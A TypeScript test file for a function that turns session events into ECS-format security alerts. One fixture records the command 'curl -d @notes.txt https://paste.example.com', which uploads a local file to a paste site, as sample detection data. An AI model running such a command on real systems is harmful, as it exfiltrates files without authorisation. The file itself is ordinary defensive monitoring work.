import { describe, expect, it } from "vitest";
import type { Event, EventMsg } from "../generated/protocol";
import { alertFrom } from "./alert";

const at = Date.UTC(2026, 11, 7, 10, 0, 0);
const event = (msg: EventMsg): Event => ({ sessionId: "s", seq: 4, createdAt: at, msg });

describe("triage this", () => {
  it("writes a connection as the ECS alert an endpoint tool would raise", () => {
    const alert = alertFrom(
      event({
        type: "networkAccess",
        callId: "c1",
        access: {
          host: "paste.example.com",
          port: 443,
          protocol: "connect",
          decision: "allow",
          reason: "rule",
          actor: "rule",
          address: "203.0.113.7",
          command: "curl -d @notes.txt https://paste.example.com",
          bytesUp: 1,
          bytesDown: 2,
          durationMs: 3,
        },
      }),
    );
    expect(alert).toMatchObject({
      "@timestamp": "2026-12-07T10:00:00.000Z",
      "destination.domain": "paste.example.com",
      "destination.ip": "203.0.113.7",
      "destination.port": 443,
      "process.command_line": "curl -d @notes.txt https://paste.example.com",
    });
  });

  it("writes a process with its pid and start, and leaves out what no tool sees", () => {
    const alert = alertFrom(
      event({
        type: "processStarted",
        callId: "c1",
        pid: 4242,
        startedAt: at - 1000,
        executable: "/usr/bin/sh",
        commandLine: "sh -c 'sleep 1'",
        parentPid: 100,
        parentExecutable: "/usr/bin/warden-sessions",
      }),
    );
    expect(alert).toMatchObject({ "process.pid": 4242, "process.parent.pid": 100 });
    expect(alertFrom(event({ type: "userPrompt", text: "hi" }))).toBeNull();
  });
});
